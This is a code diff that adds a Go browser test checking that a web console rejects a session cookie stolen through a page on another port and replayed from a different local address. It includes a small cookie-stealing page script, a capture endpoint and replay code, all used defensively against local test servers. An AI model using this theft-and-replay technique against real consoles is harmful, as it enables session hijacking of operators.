@@ -3,6 +3,8 @@ package console_test
 import (
 	"encoding/json"
 	"fmt"
+	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -165,5 +167,57 @@ fetch("%[1]s/console/api/v1/edges?attacker=fetch", {credentials: "include", mode
 	b.Wait(t, "the console or the login form", `!!document.querySelector("input[name=token]") || document.querySelectorAll("#edges tbody tr").length === 1`)
 	if browsertest.Eval[bool](t, b, `!!document.querySelector("input[name=token]")`) {
 		t.Fatal("another origin's page signed the operator out")
+	}
+}
+
+// TestConsoleStolenCookieInBrowser: cookies do not tell ports apart, so a
+// service on another port of the hub's host (an edge's page tunnelled to
+// the same address, say) is sent the console's session cookie as soon as
+// its page asks its own /console/ path; the stolen session is refused
+// from any other address than the operator's.
+func TestConsoleStolenCookieInBrowser(t *testing.T) {
+	b := browsertest.New(t)
+	h, err := console.New(console.Options{Token: browserToken, API: hostileAPI(t)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	page := httptest.NewServer(h)
+	defer page.Close()
+	stolen := make(chan string, 1)
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/console/steal" {
+			if c, err := r.Cookie(console.CookieName); err == nil {
+				select {
+				case stolen <- c.Value:
+				default:
+				}
+			}
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		_, _ = io.WriteString(w, `<!doctype html><script>fetch("/console/steal")</script>`)
+	}))
+	defer attacker.Close()
+	b.Go(t, page.URL+console.Prefix+"?token="+url.QueryEscape(browserToken))
+	b.Wait(t, "the console", `document.querySelectorAll("#edges tbody tr").length === 1`)
+	b.Go(t, attacker.URL+"/")
+	var id string
+	select {
+	case id = <-stolen:
+	case <-time.After(30 * time.Second):
+		t.Skip("the browser did not send the console's cookie to another port")
+	}
+	// The thief replays it from another address (127.0.0.2).
+	client := &http.Client{Transport: &http.Transport{DialContext: (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}}).DialContext}}
+	req, _ := http.NewRequest("GET", page.URL+console.APIPrefix+"v1/edges", nil)
+	req.AddCookie(&http.Cookie{Name: console.CookieName, Value: id})
+	resp, err := client.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	body, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusUnauthorized || strings.Contains(string(body), "edge-1") {
+		t.Fatalf("the stolen session from another address: %d %s", resp.StatusCode, body)
 	}
 }
